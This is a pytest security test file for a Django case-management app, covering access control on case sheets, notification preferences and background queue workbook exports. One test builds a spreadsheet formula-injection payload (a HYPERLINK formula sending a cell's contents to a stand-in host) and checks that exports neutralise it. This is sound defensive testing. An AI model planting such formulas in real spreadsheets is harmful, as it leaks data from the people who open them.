"""Attacks on three doors: the case sheet through the API, notification preferences through the API, and the queue
workbooks prepared in the background. Each refusal also asserts that nothing changed and nothing was logged as a
download."""

import io
import json
from contextlib import closing

import openpyxl
import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from accounts import services as account_services
from accounts.models import Membership, Role
from accounts.reauth import REAUTH_AT
from cases import services
from cases.choices import PREFERENCE_KINDS, AccessAction, CaseStatus, IncidentKind, NotificationDelivery
from cases.evidence_store import exports_storage
from cases.models import AccessLog, Case, ExportStatus, NotificationPreference, QueueExport
from cases.reports.queue_jobs import queue_file
from cases.services.inbox import set_notification_preferences
from tests.api.conftest import token_client
from tests.conftest import reauthenticated
from tests.factories import case_in, draft, member

pytestmark = pytest.mark.django_db
S = CaseStatus
WORKBOOKS = reverse("cases:queue-workbooks")
PREFS = "/api/v1/notifications/preferences/"


def sheet(case: Case) -> str:
    return f"/api/v1/cases/{case.pk}/sheet/"


def downloads() -> list[tuple]:
    return list(AccessLog.objects.filter(action=AccessAction.DOWNLOAD).values_list("user_id", "object_ref"))


def case_rows(case: Case) -> tuple:
    return Case.objects.filter(pk=case.pk).values_list("status", "version", "last_activity_at").get()


# --- the case sheet -------------------------------------------------------------------------------------------------


@pytest.fixture
def supervised(world) -> Case:
    return case_in(world, S.SUPERVISION)


@pytest.mark.parametrize("who", ["sibling_supervisor", "other_officer", "sibling_officer"])
def test_the_sheet_of_a_case_outside_the_callers_scope_is_a_404_with_no_download(world, supervised, who):
    before = case_rows(supervised)
    response = token_client(getattr(world, who)).get(sheet(supervised))
    assert response.status_code == 404
    assert downloads() == []
    assert case_rows(supervised) == before


def test_the_filer_of_another_case_gets_no_sheet_of_this_one(world, supervised):
    filer = member(world.station, Role.OFFICER, username="second_filer")
    services.create_draft_case(by=filer, unit=world.station, details={"summary": "另一件"})
    assert token_client(filer).get(sheet(supervised)).status_code == 404
    assert downloads() == []


def test_an_officer_listed_on_the_case_sees_it_but_gets_no_sheet(world, supervised):
    listed = member(world.station, Role.OFFICER, username="listed")
    services.add_involved_officer(case=supervised, by=world.supervisor, user=listed, name="辅警 王五")
    before = case_rows(supervised)
    client = token_client(listed)
    assert client.get(f"/api/v1/cases/{supervised.pk}/").status_code == 200
    response = client.get(sheet(supervised))
    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"
    assert downloads() == []
    assert case_rows(supervised) == before


def test_the_provincial_admin_gets_the_sheet_as_the_page_gives_it(world, supervised, client):
    response = token_client(world.admin).get(sheet(supervised))
    assert response.status_code == 200
    assert response.content[:5] == b"%PDF-"
    assert downloads() == [(world.admin.pk, f"case-sheet:{supervised.reference} en")]


def test_a_token_issued_without_the_second_factor_gets_no_sheet(world, supervised, settings):
    settings.RIGHTSGUARD_MFA_REQUIRED = True
    client = token_client(world.supervisor, mfa_verified=False)
    assert client.get(sheet(supervised)).status_code in (401, 403)
    assert downloads() == []


def test_a_deactivated_supervisors_token_gets_no_sheet(world, supervised):
    client = token_client(world.supervisor)
    account_services.deactivate_user(user=world.supervisor)
    assert client.get(sheet(supervised)).status_code == 401
    assert downloads() == []


def test_a_draft_has_no_sheet_for_its_filer_nor_the_supervisor(world):
    the_draft = draft(world)
    assert token_client(world.officer).get(sheet(the_draft)).status_code == 403
    assert token_client(world.supervisor).get(sheet(the_draft)).status_code == 404
    assert downloads() == []


# --- notification preferences ---------------------------------------------------------------------------------------


def stored_preferences() -> list[tuple]:
    return list(NotificationPreference.objects.order_by("user_id", "kind").values_list("user_id", "kind", "delivery"))


@pytest.fixture
def chosen(world) -> list[tuple]:
    set_notification_preferences(user=world.supervisor, deliveries={PREFERENCE_KINDS[0]: NotificationDelivery.IN_APP})
    set_notification_preferences(user=world.officer, deliveries={PREFERENCE_KINDS[1]: NotificationDelivery.IN_APP})
    return stored_preferences()


@pytest.mark.parametrize("method", ["put", "patch"])
@pytest.mark.parametrize(
    "body",
    [
        [],
        ["in_app"],
        "in_app",
        None,
        17,
        {PREFERENCE_KINDS[0]: {"delivery": "in_app"}},
        {PREFERENCE_KINDS[0]: ["in_app"]},
        {PREFERENCE_KINDS[0]: None},
        {PREFERENCE_KINDS[0]: True},
        {"email_problems": "in_app"},
        {"no_such_kind": "in_app"},
        {PREFERENCE_KINDS[0]: "in_app", "user": 1},
        {PREFERENCE_KINDS[0]: "in_app", PREFERENCE_KINDS[1]: "by_pigeon"},
    ],
)
def test_a_malformed_preferences_body_is_a_400_and_changes_nothing(world, chosen, method, body):
    response = getattr(token_client(world.supervisor), method)(PREFS, json.dumps(body), content_type="application/json")
    assert response.status_code == 400
    assert stored_preferences() == chosen


def test_a_huge_preferences_body_is_a_short_400_and_changes_nothing(world, chosen):
    body = {f"kind{i}": "in_app" for i in range(20_000)}
    response = token_client(world.supervisor).patch(PREFS, body, format="json")
    assert response.status_code == 400
    assert response.json()["errors"] == {
        "non_field_errors": ["Send an object naming kinds of notification and how you hear about each."]
    }
    assert stored_preferences() == chosen


def test_put_missing_a_kind_is_a_400_and_changes_nothing(world, chosen):
    body = dict.fromkeys(PREFERENCE_KINDS[1:], NotificationDelivery.IN_APP)
    response = token_client(world.supervisor).put(PREFS, body, format="json")
    assert response.status_code == 400
    assert response.json()["errors"] == {PREFERENCE_KINDS[0]: ["Choose how you hear about this kind of notification."]}
    assert stored_preferences() == chosen


def test_preferences_are_always_the_callers_own(world, chosen):
    client = token_client(world.supervisor)
    for path in (f"{PREFS}?user={world.officer.pk}", f"/api/v1/notifications/preferences/{world.officer.pk}/"):
        response = client.patch(path, {PREFERENCE_KINDS[2]: "in_app"}, format="json")
        assert response.status_code in (200, 404)
    officer_rows = [row for row in stored_preferences() if row[0] == world.officer.pk]
    assert officer_rows == [(world.officer.pk, PREFERENCE_KINDS[1], NotificationDelivery.IN_APP)]
    assert APIClient().get(PREFS).status_code == 401


# --- queue workbooks ------------------------------------------------------------------------------------------------


@pytest.fixture
def big(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.RIGHTSGUARD_INLINE_EXPORT_MAX = 1


def ask(client, user, capture, query: str = "sort=created&dir=asc"):
    client.force_login(user)
    reauthenticated(client)
    with capture(execute=True):
        return client.post(WORKBOOKS, {"query": query})


def workbook_rows(content: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def streamed(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("who", ["county_supervisor", "ministry_supervisor", "admin", "officer", "sibling_supervisor"])
def test_nobody_else_downloads_a_workbook_by_its_id(client, world, big, django_capture_on_commit_callbacks, who):
    case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    assert ask(client, world.supervisor, django_capture_on_commit_callbacks).status_code == 302
    job = QueueExport.objects.get()
    assert job.status == ExportStatus.DONE
    client.force_login(getattr(world, who))
    reauthenticated(client)
    before = list(AccessLog.objects.values_list("id", flat=True))
    for pk in (job.pk, job.pk + 1, job.pk - 1, 0):
        response = client.get(reverse("cases:queue-workbook-download", args=[pk]))
        assert response.status_code in (403, 404)
    listing = client.get(WORKBOOKS)
    assert listing.status_code in (200, 403)
    assert reverse("cases:queue-workbook-download", args=[job.pk]) not in listing.content.decode()
    assert list(AccessLog.objects.exclude(action=AccessAction.DENIED).values_list("id", flat=True)) == before


def test_a_download_without_a_recent_password_asks_for_it_and_logs_nothing(
    client, world, big, django_capture_on_commit_callbacks
):
    case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    ask(client, world.supervisor, django_capture_on_commit_callbacks)
    job = QueueExport.objects.get()
    session = client.session
    session.pop(REAUTH_AT, None)
    session.save()
    before = AccessLog.objects.count()
    response = client.get(reverse("cases:queue-workbook-download", args=[job.pk]))
    assert response.status_code == 302
    assert "reauth" in response["Location"] or "password" in response["Location"]
    assert AccessLog.objects.count() == before


def test_a_job_run_after_the_requesters_role_was_revoked_writes_nothing(
    client, world, big, django_capture_on_commit_callbacks
):
    case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.force_login(world.supervisor)
        reauthenticated(client)
        assert client.post(WORKBOOKS, {"query": "sort=created&dir=asc"}).status_code == 302
    for membership in Membership.objects.filter(user=world.supervisor):
        account_services.revoke_membership(membership=membership)
    for callback in callbacks:
        callback()
    job = QueueExport.objects.get()
    assert (job.status, job.refusal) == (ExportStatus.FAILED, "no_queue")
    assert client.get(reverse("cases:queue-workbook-download", args=[job.pk])).status_code == 403


def test_a_job_run_after_the_requester_moved_lists_only_their_current_queue(
    client, world, big, django_capture_on_commit_callbacks
):
    here = case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    there = case_in(world, S.INTAKE)
    Case.objects.filter(pk=there.pk).update(unit=world.sibling_station, unit_path=world.sibling_station.path)
    there.refresh_from_db()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.force_login(world.supervisor)
        reauthenticated(client)
        assert client.post(WORKBOOKS, {"query": "sort=created&dir=asc"}).status_code == 302
    for membership in Membership.objects.filter(user=world.supervisor):
        account_services.revoke_membership(membership=membership)
    account_services.grant_membership(user=world.supervisor, unit=world.sibling_province, role=Role.SUPERVISOR)
    for callback in callbacks:
        callback()
    job = QueueExport.objects.get()
    assert job.status == ExportStatus.DONE
    with closing(exports_storage().reader(queue_file(job))) as stored:
        references = [row[0] for row in workbook_rows(stored.read())[1:]]
    assert references == [there.reference]
    assert here.reference not in references
    # Asked for under the old authority: not handed out, whatever the job listed.
    assert client.get(reverse("cases:queue-workbook-download", args=[job.pk])).status_code == 404


def test_a_workbook_prepared_before_the_requester_moved_is_no_longer_theirs_to_download(
    client, world, big, django_capture_on_commit_callbacks
):
    case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    ask(client, world.supervisor, django_capture_on_commit_callbacks)
    job = QueueExport.objects.get()
    assert job.status == ExportStatus.DONE
    for membership in Membership.objects.filter(user=world.supervisor):
        account_services.revoke_membership(membership=membership)
    account_services.grant_membership(user=world.supervisor, unit=world.sibling_province, role=Role.SUPERVISOR)
    client.force_login(world.supervisor)
    reauthenticated(client)
    before = AccessLog.objects.count()
    response = client.get(reverse("cases:queue-workbook-download", args=[job.pk]))
    assert response.status_code == 404
    assert AccessLog.objects.exclude(action=AccessAction.DENIED).count() == before


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_hostile_text_reaches_the_background_workbook_as_inert_text(
    client, world, big, django_capture_on_commit_callbacks, prefix
):
    hostile = f'{prefix}HYPERLINK("http://x.example/?"&A2,"点我")'
    first = case_in(world, S.INTAKE, kind=IncidentKind.THREAT, summary=hostile)
    case_in(world, S.INTAKE, kind=IncidentKind.THREAT, summary=hostile)
    assignee = member(world.city, Role.SUPERVISOR, full_name=hostile)
    services.assign_case(case=first, by=world.supervisor, expected_version=None, assignee=assignee)
    world.city.name = hostile
    world.city.save()
    world.station.name = hostile
    world.station.name_en = hostile
    world.station.save()
    ask(client, world.supervisor, django_capture_on_commit_callbacks)
    job = QueueExport.objects.get()
    response = client.get(reverse("cases:queue-workbook-download", args=[job.pk]))
    content = streamed(response)
    cells = [cell for row in workbook_rows(content)[1:] for cell in row if isinstance(cell, str)]
    assert f"'{hostile}" in cells
    assert hostile not in cells
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells if cell != "")


def test_a_double_post_prepares_one_workbook(client, world, big, django_capture_on_commit_callbacks):
    case_in(world, S.INTAKE)
    case_in(world, S.INTAKE)
    with django_capture_on_commit_callbacks(execute=False):
        client.force_login(world.supervisor)
        reauthenticated(client)
        first = client.post(WORKBOOKS, {"query": "sort=created&dir=asc"})
        second = client.post(WORKBOOKS, {"query": "sort=created&dir=asc"})
    assert (first.status_code, second.status_code) == (302, 302)
    assert QueueExport.objects.count() == 1
